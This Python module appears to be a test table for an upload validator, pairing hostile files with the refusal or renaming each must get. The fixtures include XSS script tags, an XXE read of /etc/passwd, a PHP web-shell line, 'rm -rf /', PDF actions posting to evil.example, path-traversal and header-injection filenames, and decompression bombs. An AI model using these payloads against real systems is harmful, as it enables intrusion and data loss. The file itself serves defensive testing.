"""The table: each hostile file, and what has to come of it. Groups are those of the test plan (UP)."""

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from tests.attachments.corpus import paper, pictures, sounds
from tests.attachments.corpus.pictures import AUTHOR, CANARY, REMARK, header, png_of

KIND, DAMAGED, PIXELS = "cannot be added", "cannot be opened", "more pixels than can be opened"
EMPTY, LOCKED, FILES, ACTS, FILM = (
    "is empty",
    "locked with a password",
    "other files inside",
    "run or open",
    "is a film",
)
PAGES, SOUND = "more than 500 pages", "Choose M4A, MP3"
SCRIPT = f"<script>alert('{CANARY}')</script>"


@dataclass(frozen=True)
class Case:
    """`made` is the kind it is served as, or `refused` the words it is refused with. `shown` is its name afterwards."""

    group: str
    title: str
    name: str
    content: Callable[[], bytes]
    made: str = ""
    refused: str = ""
    shown: str = ""


def wrong(title: str, name: str, content: bytes | str | Callable[[], bytes], **outcome: str) -> Case:
    given = content.encode() if isinstance(content, str) else content
    outcome = outcome or {"refused": KIND}
    return Case("wrong type or name", title, name, given if callable(given) else lambda: given, **outcome)


def zipped(name: str = "word/document.xml") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(name, SCRIPT)
    return out.getvalue()


JPEG, PNG, WEBP, PDF = "image/jpeg", "image/png", "image/webp", "application/pdf"

WRONG = [
    wrong("a page as a photo", "photo.jpg", f"<!doctype html>{SCRIPT}"),
    wrong("a page", "photo.html", f"<html>{SCRIPT}"),
    wrong("a page of XML", "page.xhtml", f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</html>"),
    wrong("a drawing with a script", "drawing.svg", f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"),
    wrong("a drawing as PNG", "drawing.png", f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"),
    wrong("XML that reads a file", "a.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    wrong("a script as a photo", "photo.jpeg", "alert(document.cookie)"),
    wrong("a style sheet", "look.css", "body { background: url(//evil.example) }"),
    wrong("words as PDF", "notes.pdf", "Only words."),
    wrong("GIF", "moving.gif", lambda: pictures.other("GIF")),
    wrong("GIF as JPEG", "moving.jpg", lambda: pictures.other("GIF")),
    wrong("BMP", "a.bmp", lambda: pictures.other("BMP")),
    wrong("TIFF as JPEG", "a.jpg", lambda: pictures.other("TIFF")),
    wrong("an icon", "favicon.ico", lambda: pictures.other("ICO")),
    wrong("HEIC", "IMG_1.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(90)),
    wrong("AVIF as JPEG", "a.jpg", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + bytes(90)),
    wrong("JPEG 2000", "a.jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(90)),
    wrong("PostScript as PDF", "a.pdf", "%!PS-Adobe-3.0 EPSF-3.0\n(x) run"),
    wrong("a ZIP as a photo", "photo.jpg", zipped),
    wrong("a Word document", "record.docx", zipped),
    wrong("a program as a photo", "photo.jpg", b"MZ\x90\0" + bytes(200)),
    wrong("a program of Linux as PNG", "photo.png", b"\x7fELF\2\1\1" + bytes(200)),
    wrong("a shell script", "photo.jpg", "#!/bin/sh\nrm -rf /\n"),
    wrong("PHP as a photo", "photo.php.jpg", "<?php system($_GET['c']); ?>"),
    wrong("FLAC", "voice.flac", b"fLaC\0\0\0\x22" + bytes(90)),
    wrong("a film as sound", "voice.m4a", lambda: sounds.m4a(handler=b"vide"), refused=FILM),
    wrong("a film of WebM as sound", "voice.webm", lambda: sounds.webm(kind=1, codec="V_VP9"), refused=FILM),
    wrong("Ogg of which one stream is a film", "voice.ogg", sounds.two_streams, refused=DAMAGED),
    wrong("M4A with a codec nobody knows", "voice.m4a", lambda: sounds.m4a(codec=b"evil"), refused=SOUND),
    wrong("M4A whose sound lies elsewhere", "voice.m4a", lambda: sounds.m4a(here=b"\0"), refused=SOUND),
    wrong("WAV with a codec nobody knows", "voice.wav",
          lambda: sounds.wav(beside=False).replace(b"fmt \x10\0\0\0\1", b"fmt \x10\0\0\0\x99"), refused=SOUND),
    wrong("JPEG that is called PNG", "photo.png", pictures.plain, made=JPEG, shown="photo.jpg"),
    wrong("PNG that is called JPEG", "photo.JPG", lambda: pictures.plain("PNG"), made=PNG, shown="photo.png"),
    wrong("WebP that is called JPEG", "photo.jpeg", lambda: pictures.plain("WEBP"), made=WEBP, shown="photo.webp"),
    wrong("PDF that is called JPEG", "letter.jpg", paper.plain, made=PDF, shown="letter.pdf"),
    wrong("JPEG that is called a page", "photo.html", pictures.plain, made=JPEG, shown="photo.jpg"),
    wrong("WAV that is called M4A", "voice.m4a", sounds.wav, made="audio/wav", shown="voice.wav"),
]  # fmt: skip


def poly(title: str, name: str, content: Callable[[], bytes], **outcome: str) -> Case:
    return Case("polyglots", title, name, content, **outcome)


POLYGLOTS = [
    poly("JPEG with a ZIP behind", "a.jpg", lambda: pictures.plain() + zipped(), made=JPEG),
    poly("JPEG with a page behind", "a.jpg", lambda: pictures.plain() + SCRIPT.encode(), made=JPEG),
    poly("JPEG with a page as a comment", "a.jpg",
         lambda: pictures.with_segment(pictures.plain(), 0xFE, SCRIPT.encode()), made=JPEG),
    poly("JPEG with a PDF inside", "a.jpg",
         lambda: pictures.with_segment(pictures.plain(), 0xE5, paper.plain()[:60_000]), made=JPEG),
    poly("GIF with a JAR behind", "a.gif", lambda: pictures.other("GIF") + zipped("META-INF/X"), refused=KIND),
    poly("PNG with PHP behind its end", "a.png",
         lambda: pictures.plain("PNG") + f"<?php {CANARY} ?>".encode(), made=PNG),
    poly("WebP with a script behind", "a.webp", lambda: pictures.plain("WEBP") + SCRIPT.encode(), made=WEBP),
    poly("a page before a PDF", "a.pdf", lambda: SCRIPT.encode() + paper.plain(), refused=KIND),
    poly("PDF with a ZIP behind", "a.pdf", lambda: paper.plain() + zipped() + bytes(3000), refused=DAMAGED),
    poly("PDF with a short page behind", "a.pdf", lambda: paper.plain() + SCRIPT.encode(), made=PDF),
    poly("a page before a JPEG", "a.jpg", lambda: f"<!--{SCRIPT}".encode() + pictures.plain(), refused=KIND),
    poly("WAV with a page inside", "a.wav",
         lambda: sounds.wav()[:12] + b"LIST" + len(SCRIPT).to_bytes(4, "little") + SCRIPT.encode()
         + b"\0" * (len(SCRIPT) % 2) + sounds.wav()[12:], made="audio/wav"),
]  # fmt: skip


def beside(title: str, name: str, content: Callable[[], bytes], made: str) -> Case:
    return Case("metadata", title, name, content, made=made)


METADATA = [
    beside("JPEG with place, camera, author, XMP and comment", "a.jpg", pictures.jpeg_with_everything, JPEG),
    beside("PNG with texts, EXIF and a chunk of its own", "a.png", pictures.png_with_everything, PNG),
    beside("WebP with EXIF and XMP", "a.webp", pictures.webp_with_everything, WEBP),
    beside("PNG with a palette and one colour to see through", "a.png", pictures.palette_png, PNG),
    beside("PNG of sixteen bits", "a.png", pictures.grey_16_png, PNG),
    beside("JPEG in printing colours with a comment", "a.jpg", pictures.cmyk_jpeg, JPEG),
    beside("PDF with author, XMP, a note, a signature, a map, photos with EXIF", "a.pdf", paper.with_everything, PDF),
    beside("PDF with an update over its author", "a.pdf", paper.with_changes_over_it, PDF),
    beside("MP3 with ID3 in front and behind", "a.mp3", sounds.mp3, "audio/mpeg"),
    beside("MP3 without", "a.mp3", lambda: sounds.mp3(beside=False), "audio/mpeg"),
    beside("Opus with comments over several pages", "a.opus", sounds.opus, "audio/ogg"),
    beside("Vorbis with comments", "a.ogg", sounds.vorbis, "audio/ogg"),
    beside("WebM as a recorder writes it", "a.webm", sounds.webm, "audio/webm"),
    beside("WebM of known length", "a.webm", lambda: sounds.webm(live=False), "audio/webm"),
    beside("M4A with place and artist", "a.m4a", sounds.m4a, "audio/mp4"),
    beside("WAV with LIST, bext and id3", "a.wav", sounds.wav, "audio/wav"),
]


def large(title: str, name: str, content: Callable[[], bytes], **outcome: str) -> Case:
    return Case("size and bombs", title, name, content, **outcome)


def padded(content: bytes, size: int) -> bytes:
    return content + bytes(size - len(content))


LARGE = [
    large("nothing", "a.jpg", lambda: b"", refused=EMPTY),
    large("one byte", "a.jpg", lambda: b"\xff", refused=KIND),
    large("JPEG over 20 MB", "a.jpg", lambda: padded(pictures.plain(), 20_000_001), refused="is 21 MB. Choose one"),
    large("JPEG of exactly 20 MB", "a.jpg", lambda: padded(pictures.plain(), 20_000_000), made=JPEG),
    large("PDF over 20 MB", "a.pdf", lambda: padded(paper.plain(), 20_000_001), refused="Choose one under 20 MB"),
    large("sound over 25 MB", "a.mp3", lambda: padded(sounds.mp3(), 25_000_001), refused="Choose one under 25 MB"),
    large("JPEG of 50 megapixels", "a.jpg", lambda: pictures.solid("JPEG", 8000, 6250), made=JPEG),
    large("JPEG of 50.1 megapixels", "a.jpg", lambda: pictures.solid("JPEG", 8000, 6263), refused=PIXELS),
    large("JPEG that claims 65,500 x 65,500", "a.jpg", lambda: pictures.jpeg_claiming(65_500, 65_500), refused=PIXELS),
    large("PNG of 25 megapixels", "a.png", lambda: pictures.solid("PNG", 5000, 5000), made=PNG),
    large("PNG of 25.01 megapixels", "a.png", lambda: pictures.solid("PNG", 5000, 5002), refused=PIXELS),
    large("PNG that claims 65,535 x 65,535", "a.png", lambda: pictures.png_claiming(65_535, 65_535), refused=PIXELS),
    large("PNG that claims 2,147,483,647 x 1", "a.png", lambda: pictures.png_claiming(2**31 - 1, 1), refused=PIXELS),
    large("WebP of 25.01 megapixels", "a.webp", lambda: pictures.solid("WEBP", 5000, 5002), refused=PIXELS),
    large("JPEG of 60,000 x 1", "a.jpg", lambda: pictures.solid("JPEG", 60_000, 1), made=JPEG),
    large("PNG with a text of 200 MB", "a.png", lambda: pictures.png_with_bomb(b"zTXt", b"Own\0\0"), refused=DAMAGED),
    large("PNG with a profile of 200 MB", "a.png", lambda: pictures.png_with_bomb(b"iCCP", b"i\0\0"), refused=DAMAGED),
    large("PNG of ten rows and 300 MB", "a.png", pictures.png_with_too_many_rows, made=PNG),
    large("PNG of 300 moving pictures", "a.png", lambda: pictures.animated("PNG", 300), made=PNG),
    large("WebP of 100 moving pictures", "a.webp", lambda: pictures.animated("WEBP", 100), made=WEBP),
    large("PDF with 300 MB on one page", "a.pdf", paper.stream_bomb, made=PDF),
    large("PDF with 900 MB of objects", "a.pdf", paper.objects_bomb, refused=DAMAGED),
    large("PDF of 501 pages", "a.pdf", lambda: paper.plain(501), refused=PAGES),
    large("PDF with 60,000 brackets", "a.pdf", paper.nested, refused=DAMAGED),
    large("PDF whose pages go round in a circle", "a.pdf", paper.pages_in_a_circle, refused=DAMAGED),
]  # fmt: skip


def damaged(title: str, name: str, content: Callable[[], bytes], **outcome: str) -> Case:
    return Case("damaged", title, name, content, **(outcome or {"refused": DAMAGED}))


def scribbled() -> bytes:
    jpeg = bytearray(pictures.plain(width=600, height=400))
    for at in range(len(jpeg) // 2, len(jpeg) - 2, 7):
        jpeg[at] = 0
    return bytes(jpeg)


DAMAGED_ONES = [
    damaged("half a JPEG", "a.jpg", lambda: pictures.plain()[: len(pictures.plain()) // 2]),
    damaged("half a PNG", "a.png", lambda: pictures.plain("PNG")[:-60]),
    damaged("half a WebP", "a.webp", lambda: pictures.plain("WEBP")[: len(pictures.plain("WEBP")) // 2]),
    damaged("the beginning of a JPEG alone", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(60)),
    damaged("JPEG with letters written over it", "a.jpg", scribbled, made=JPEG),
    damaged("PNG with a wrong sum", "a.png", lambda: pictures.plain("PNG").replace(b"IDAT", b"IDAT\0", 1)),
    damaged("PNG without pixels", "a.png", lambda: png_of(header(9, 9), pictures.chunk(b"IEND", b""))),
    damaged("JPEG with EXIF that leads nowhere", "a.jpg",
            lambda: pictures.with_segment(pictures.plain(), 0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + AUTHOR.encode()),
            made=JPEG),
    damaged("half a WAV", "a.wav", lambda: sounds.wav(beside=False)[:-900]),
    damaged("half an Ogg", "a.ogg", lambda: sounds.opus()[:-100]),
    damaged("half an M4A", "a.m4a", lambda: sounds.m4a()[:-100]),
    damaged("half a WebM", "a.webm", lambda: sounds.webm(live=False)[:-200]),
    damaged("MP3 without sound", "a.mp3", lambda: b"ID3\4\0\0\0\0\0\0" + bytes(9000)),
]  # fmt: skip


def pdf(title: str, content: Callable[[], bytes], refused: str) -> Case:
    return Case("PDF content", title, "a.pdf", content, refused=refused)


def acting(what: str, **more: str) -> bytes:
    told = {name: paper.String(value) for name, value in more.items()}
    return paper.made(paper.link_to(paper.Dictionary(S=paper.Name(f"/{what}"), **told)))


PAPER = [
    pdf("a script when it opens", lambda: paper.made(paper.opens_with_script), ACTS),
    pdf("a script among its names", lambda: paper.made(paper.named_script), ACTS),
    pdf("a script, packed with other objects", paper.hidden_in_a_stream_of_objects, ACTS),
    pdf("a script, its name written in numbers", paper.spelled_oddly, ACTS),
    pdf("starts a program", lambda: paper.made(paper.launches), ACTS),
    pdf("sends a form", lambda: acting("SubmitForm", F="http://evil.example"), ACTS),
    pdf("a link that is a script", lambda: acting("URI", URI="JavaScript:x"), ACTS),
    pdf("a link to a file", lambda: acting("URI", URI="file:///etc/passwd"), ACTS),
    pdf("opens another file", lambda: acting("GoToR", F=r"\\evil\x"), ACTS),
    pdf("a form of XML", lambda: paper.made(paper.xfa), ACTS),
    pdf("a file inside", lambda: paper.made(paper.holds_a_file), FILES),
    pdf("a file pinned to a page", lambda: paper.made(paper.pinned_file), FILES),
    pdf("a film", lambda: paper.made(paper.film), FILES),
    pdf("locked for everybody", lambda: paper.locked("a", "b"), LOCKED),
    pdf("locked against changes", lambda: paper.locked("", "b"), LOCKED),
    pdf("its end is missing", lambda: paper.plain()[:-40], DAMAGED),
    pdf("a beginning and an end alone", lambda: b"%PDF-1.7\n%%EOF\n", DAMAGED),
]  # fmt: skip


def called(title: str, name: str, shown: str) -> Case:
    return Case("names", title, name, pictures.plain, made=JPEG, shown=shown)


NAMES = [
    called("a path up", "../../../etc/passwd", "passwd.jpg"),
    called("a path of Windows", r"C:\Users\Ann\secret.jpg", "C UsersAnnsecret.jpg"),
    called("an end of text", "photo.jpg\0.php", "photo.jpg"),
    called("a line end", "photo%0D%0ASet-Cookie: a=b.jpg", "photo 0D 0ASet-Cookie a=b.jpg"),
    called("quotes", "pho\"to's.jpg", "pho.jpg"),
    called("an apostrophe", "Ann's photo.jpg", "Ann's photo.jpg"),
    called("right to left", "photo\u202egpj.exe", "photogpj.jpg"),
    called("a page", "<img src=x onerror=alert(1)>.jpg", "img src=x onerror=alert(1).jpg"),
    called("300 letters", "a" * 300 + ".jpg", "a" * 80 + ".jpg"),
    called("a dot file", ".htaccess", "htaccess.jpg"),
    called("dots alone", "....", "picture.jpg"),
    called("a device of Windows", "CON.jpg", "picture CON.jpg"),
    called("two endings", "photo.jpg.exe", "photo.jpg"),
    called("no ending", "photo", "photo.jpg"),
    called("a template", "{{7*7}}.jpg", "7 7.jpg"),
    called("letters of other languages", "łódź 照片.jpg", "łódź 照片.jpg"),
    called("percent signs", "a%2e%2e%2fb%0d.jpg", "a 2e 2e 2fb 0d.jpg"),
    called("a picture of a smile", "🙂.jpg", "🙂.jpg"),
]

CASES = [*WRONG, *POLYGLOTS, *METADATA, *LARGE, *DAMAGED_ONES, *PAPER, *NAMES]
assert REMARK.startswith(CANARY)
